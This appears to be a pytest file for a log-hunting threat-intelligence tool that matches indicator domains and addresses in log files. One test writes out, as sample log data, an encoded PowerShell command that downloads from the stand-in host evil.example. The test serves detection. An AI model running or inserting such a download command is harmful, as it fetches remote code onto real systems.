from __future__ import annotations

import gzip
import json
import random
import threading
import uuid
from base64 import b64encode
from collections import Counter
from urllib.parse import quote

import msgspec
import pytest

from tocsin.formats import zstd
from tocsin.matching import Entry, Index, Indicator
from tocsin.matching.values import classify
from tocsin.matching.warninglists import Listed, Warninglists
from tocsin.node.catalogue import Catalogue, Source
from tocsin.node.hits import Options
from tocsin.node.hunt import Hunt
from tocsin.sharing.labels import label_for

NOW = 1_795_200_000_000_000
EVENT = 1_795_161_600_000_000  # 2026-11-20T08:00:00Z
SOURCE = Source("identity--a", "A", "TLP:GREEN", label_for((), owner="identity--a"), 1, uuid.UUID(int=1))


def _catalogue(*wanted, lists=()):
    """Of texts, or of (text, facts) for indicators with facts of their own."""
    entries = []
    for tag, each in enumerate(wanted):
        texts, facts = each if isinstance(each, tuple) else (each, {})
        indicator = Indicator(id=f"indicator--{tag}", name=f"number {tag}", tag=tag, **facts)
        for text in texts.split():
            value = classify(text)
            entries.append(Entry(value.kind, value.text, indicator))
    return Catalogue(
        Index.build(entries), [(SOURCE,)] * len(wanted), len(wanted), Counter(), {}, Warninglists(lists)
    )


def _hunt(catalogue, path, **options):
    hunt = Hunt(catalogue, now=NOW, options=Options(**options))
    return list(hunt.run([str(path)])), hunt.report


def _write(tmp_path, *lines):
    file = tmp_path / "app.log"
    file.write_text("".join(f"{line}\n" for line in lines), encoding="utf-8")
    return file


def test_a_hit_says_where_and_what(tmp_path):
    log = _write(tmp_path, "quiet", "2026-11-20T08:00:00Z from www.evil.example")
    (hit,), report = _hunt(_catalogue("evil.example"), log)
    assert (hit.value, hit.wanted, hit.kind) == ("www.evil.example", "evil.example", "domain")
    assert (hit.file, hit.line, hit.offset, hit.field, hit.at) == (str(log), 2, 6, "line", EVENT)
    assert hit.text == "2026-11-20T08:00:00Z from www.evil.example"
    assert hit.sources == (SOURCE,)
    assert hit.raised
    assert (report.hits, report.flagged, report.lines, report.malformed) == (1, 0, 2, 0)
    assert report.bytes == report.read == log.stat().st_size
    assert report.formats == {"text": 1}


def test_a_line_is_one_hit_of_an_indicator(tmp_path):
    log = _write(tmp_path, "evil.example 1.2.3.4 evil.example", "1.2.3.4")
    hits, report = _hunt(_catalogue("evil.example 1.2.3.4", "1.2.3.4"), log)
    assert [(h.indicator.tag, h.line) for h in hits] == [(0, 1), (1, 1), (0, 2), (1, 2)]
    assert report.hits == 4


def test_the_value_least_in_doubt_counts(tmp_path):
    log = _write(tmp_path, "Skype/1.2.3.4 evil.example")
    (hit,), _ = _hunt(_catalogue("1.2.3.4 evil.example"), log)
    assert hit.value == "evil.example"


@pytest.mark.parametrize(
    ("line", "facts", "flags"),
    [
        ("2026-11-20T08:00:00Z 1.2.3.4", {"valid_from": EVENT}, ()),
        ("2026-11-20T08:00:00Z 1.2.3.4", {"valid_from": EVENT + 1}, ("before-valid",)),
        ("2026-11-20T08:00:00Z 1.2.3.4", {"valid_until": EVENT}, ("after-valid",)),
        ("2026-11-20T08:00:00Z 1.2.3.4", {"valid_until": EVENT + 1}, ()),
        ("no time 1.2.3.4", {"valid_until": NOW}, ("after-valid",)),
        ("no time 1.2.3.4", {"valid_from": NOW, "valid_until": NOW + 1}, ()),
    ],
)
def test_validity_is_judged_at_the_time_of_the_event(tmp_path, line, facts, flags):
    log = _write(tmp_path, line)
    (hit,), report = _hunt(_catalogue(("1.2.3.4", facts)), log)
    assert hit.flags == flags
    assert (report.hits, report.flagged) == ((0, 1) if flags else (1, 0))
    assert _hunt(_catalogue(("1.2.3.4", facts)), log, any_time=True)[0][0].flags == ()


def test_listed_values_are_flagged(tmp_path):
    lists = [
        Listed("resolvers", "cidr", ("ip-dst",), ("9.9.9.9",)),
        Listed("sites", "hostname", (), ("shop.example",)),
    ]
    log = _write(tmp_path, "to 9.9.9.9", "to 9.9.9.8", "to www.shop.example", "to evil.example")
    hits, report = _hunt(_catalogue("9.9.9.0/24", "shop.example", "evil.example", lists=lists), log)
    assert [(h.line, h.flags, h.raised) for h in hits] == [
        (1, ("warninglist:resolvers",), False),
        (2, (), True),
        (3, ("warninglist:sites",), False),
        (4, (), True),
    ]
    assert report.flags == {"warninglist": 2}


@pytest.mark.parametrize("wanted", ["10.1.2.3", "10.0.0.0/8", "http://192.168.1.1/x", "fe80::1"])
def test_a_private_address_that_others_spoke_of_is_another_machine(tmp_path, wanted):
    log = _write(tmp_path, "from 10.1.2.3 asked http://192.168.1.1/x by fe80::1", "from 100.128.0.1")
    catalogue = _catalogue(wanted, "100.128.0.1")
    (hit, public), report = _hunt(catalogue, log)
    assert (hit.flags, hit.raised, public.flags) == (("private",), False, ())
    assert report.flagged == 1
    own = msgspec.structs.replace(SOURCE, owner="identity--own", own=True)
    (hit, _), _ = _hunt(msgspec.structs.replace(catalogue, sources=[(SOURCE, own), (SOURCE,)]), log)
    assert (hit.flags, hit.raised) == ((), True)


def test_a_defanged_value_is_raised_all_the_same(tmp_path):
    (hit,), report = _hunt(_catalogue("evil.example"), _write(tmp_path, "see evil[.]example"))
    assert (hit.flags, hit.raised, report.hits) == (("defanged",), True, 1)


def test_since_passes_over_older_records_and_keeps_undated_ones(tmp_path):
    log = _write(tmp_path, "2026-11-20T07:59:59Z 1.2.3.4", "2026-11-20T08:00:00Z 1.2.3.4", "undated 1.2.3.4")
    assert [h.line for h in _hunt(_catalogue("1.2.3.4"), log, since=EVENT)[0]] == [2, 3]


def test_a_flood_is_counted_and_held_back(tmp_path):
    log = _write(tmp_path, *["1.2.3.4"] * 50, "evil.example")
    hits, report = _hunt(_catalogue("1.2.3.4", "evil.example"), log, most=10)
    assert len(hits) == 11
    assert (report.hits, report.held_back) == (51, 40)
    assert report.counts[0].raised == 50


def test_equal_lines_are_told_apart(tmp_path):
    hits, _ = _hunt(_catalogue("1.2.3.4"), _write(tmp_path, "1.2.3.4", "1.2.3.4", "x 1.2.3.4"))
    assert [h.nth for h in hits] == [1, 2, 1]
    assert hits[0].digest == hits[1].digest != hits[2].digest


def test_malformed_lines_are_counted_shown_and_searched(tmp_path):
    good = json.dumps({"timestamp": "2026-11-20T08:00:00Z", "event_type": "x", "a": "quiet"})
    log = _write(tmp_path, good, '{"cut": "evil.exam', "words about evil.example", good)
    hits, report = _hunt(_catalogue("evil.example"), log)
    assert [(h.line, h.field, h.at) for h in hits] == [(3, "malformed line", None)]
    assert report.malformed == 2
    assert report.examples[0][0] == f"{log}:2"


def test_a_fault_in_one_log_does_not_end_the_hunt(tmp_path):
    (tmp_path / "a.gz").write_bytes(b"\x1f\x8bnonsense")
    (tmp_path / "b.log").write_text("evil.example\n")
    hits, report = _hunt(_catalogue("evil.example"), tmp_path)
    assert len(hits) == 1
    assert [f.endswith("a.gz") for f, _ in report.faults] == [True]


def test_a_hunt_left_early_knows_how_far_it_came(tmp_path):
    log = _write(tmp_path, *["1.2.3.4"] * 5)
    hunt = Hunt(_catalogue("1.2.3.4"), now=NOW)
    run = hunt.run([str(log)])
    next(run)
    run.close()
    assert hunt.report.hits == 1
    assert hunt.report.lines == 5


def test_an_indicator_that_hits_everything_is_given_up(tmp_path):
    log = _write(tmp_path, *["1.2.3.4 x"] * 500, "evil.example 1.2.3.4")
    hits, report = _hunt(_catalogue("1.2.3.4", "evil.example"), log, most=10, breaker=100)
    assert (report.hits, report.held_back) == (101, 90)
    assert [count.indicator.id for count in report.counts.values() if count.given_up] == ["indicator--0"]
    assert [hit.wanted for hit in hits if hit.line == 501] == ["evil.example"]


def test_confidence_has_decayed_by_the_time_of_the_record(tmp_path):
    month = 30 * 86_400_000_000
    old = ("1.2.3.4", {"confidence": 80, "valid_from": EVENT - 4 * month})
    new = ("evil.example", {"confidence": 80, "valid_from": EVENT - month // 30})
    log = _write(tmp_path, "2026-11-20T08:00:00Z 1.2.3.4 evil.example")
    hits, report = _hunt(_catalogue(old, new), log, least=30)
    assert {hit.wanted: hit.flags for hit in hits} == {"1.2.3.4": ("faded",), "evil.example": ()}
    assert (report.hits, report.flagged) == (1, 1)
    assert _hunt(_catalogue(old, new), log)[1].hits == 2


def test_one_thread_finds_what_many_find(tmp_path):
    log = _write(tmp_path, *(f"{n} 10.0.0.{n % 250} www.name{n % 977}.example" for n in range(200_000)))
    wanted = _catalogue("10.0.0.7", "name13.example", "name500.example")
    one, many = (_hunt(wanted, log, threads=threads)[0] for threads in (1, 3))
    assert one == many
    assert len(one) == sum(n % 250 == 7 for n in range(200_000)) + sum(
        n % 977 in {13, 500} for n in range(200_000)
    )


@pytest.mark.parametrize("pack", [lambda data: data, gzip.compress, zstd.compress])
def test_who_hunts_is_told_how_far_reading_is_whoever_reads(tmp_path, pack):
    log = tmp_path / "log"
    log.write_bytes(pack(b"quiet line number of no interest\n" * 300_000 + b"evil.example\n"))
    told, by = [], set()

    def on_read(count):
        told.append(count)
        by.add(threading.get_ident())

    hunt = Hunt(_catalogue("evil.example"), now=NOW, options=Options(threads=3))
    assert [hit.line for hit in hunt.run([str(log)], on_read=on_read)] == [300_001]
    assert sum(told) == hunt.report.read == log.stat().st_size
    assert by == {threading.get_ident()}  # it may write to a database


def test_a_packed_log_that_ends_early_is_told_of_whoever_unpacks_it(tmp_path):
    log = tmp_path / "log.gz"
    noise = "".join(f"{random.Random(n).random()} line\n" for n in range(200_000)).encode()
    log.write_bytes(gzip.compress(b"evil.example\n" + noise, 1)[:-20])
    for threads in (1, 3):
        hits, report = _hunt(_catalogue("evil.example"), log, threads=threads)
        assert [hit.line for hit in hits] == [1]
        assert len(report.faults) == 1
        assert "ends early" in report.faults[0][1]


def test_a_folder_says_the_same_however_many_read_it(tmp_path):
    """Small logs are begun before their turn; large, damaged and empty ones are among them."""
    line = b'{"_path":"dns","ts":"2026-11-20T08:00:00Z","query":"www.evil.example"}\n'
    (tmp_path / "0.log").write_bytes(line * 3)
    (tmp_path / "1.log").write_bytes(b"")
    (tmp_path / "2.log.gz").write_bytes(gzip.compress(b"quiet\n" * 2_000_000 + b"1.2.3.4\n"))  # 12 MB
    (tmp_path / "3.log.gz").write_bytes(gzip.compress(line * 2)[:-9])
    (tmp_path / "4.log").write_bytes(b"from www.evil.example\n".decode().encode("utf-16"))
    (tmp_path / "5.log").write_bytes(b"quiet\n" * 700_000 + line)  # 4.2 MB
    for number in range(60, 99):
        (tmp_path / f"{number}.log").write_bytes(b"quiet\n" * number + line)
    wanted = _catalogue("evil.example", "1.2.3.4")
    (alone, one), (together, other) = (_hunt(wanted, tmp_path, threads=threads) for threads in (1, 3))
    assert [(hit.file, hit.line, hit.value) for hit in together] == [
        (hit.file, hit.line, hit.value) for hit in alone
    ]
    assert len(alone) == 3 + 1 + 2 + 1 + 1 + 39
    assert [hit.file for hit in alone] == sorted(hit.file for hit in alone)
    assert one.faults == other.faults
    assert [name.rpartition("/")[2] for name, _ in one.faults] == ["3.log.gz"]
    for what in ("hits", "lines", "bytes", "read", "malformed", "formats"):
        assert getattr(one, what) == getattr(other, what)


def test_what_is_encoded_is_looked_into_if_asked(tmp_path):
    url = "http://evil.example/x"
    command = b64encode(f"DownloadString('{url}')".encode("utf-16-le")).decode()
    log = _write(
        tmp_path, "plain words of no interest", f"cmd=powershell -enc {command}", quote(url, safe="")
    )
    assert _hunt(_catalogue("evil.example"), log)[0] == []
    hits, report = _hunt(_catalogue("evil.example"), log, decode=True)
    assert [(hit.line, hit.offset, hit.field, hit.value) for hit in hits] == [
        (2, 27, "line|base64", "evil.example"),
        (3, 28 + len(f"cmd=powershell -enc {command}"), "line|percent", "evil.example"),
    ]
    assert (report.hits, report.lines) == (2, 3)


def test_what_is_encoded_in_records_with_escapes_is_found_once(tmp_path):
    record = {
        "src": "192.0.2.9",
        "payload": b64encode(b"GET / HTTP/1.1\r\nHost: evil.example\r\n?????").decode(),
    }
    log = tmp_path / "eve.json"
    log.write_text(
        json.dumps(record).replace("/", "\\/") + "\n" + json.dumps(record | {"host": "evil.example"}) + "\n"
    )
    hits, _ = _hunt(_catalogue("evil.example"), log, decode=True)
    assert [(hit.line, hit.field) for hit in hits] == [(1, "payload|base64"), (2, "host")]


def test_a_record_of_a_time_to_come_is_taken_as_one_without_a_time(tmp_path):
    log = _write(tmp_path, "2099-01-01T00:00:00Z evil.example", "2026-11-21T12:00:00Z evil.example")
    valid = {"valid_from": EVENT, "valid_until": NOW + 1}
    (far, near), report = _hunt(_catalogue(("evil.example", valid)), log)
    assert (far.at, far.raised) == (
        None,
        True,
    )  # else a wrong clock would end the indicator, and date a sighting
    assert (near.at, near.flags) == (1_795_262_400_000_000, ("after-valid",))
    assert report.counts[0].last is None
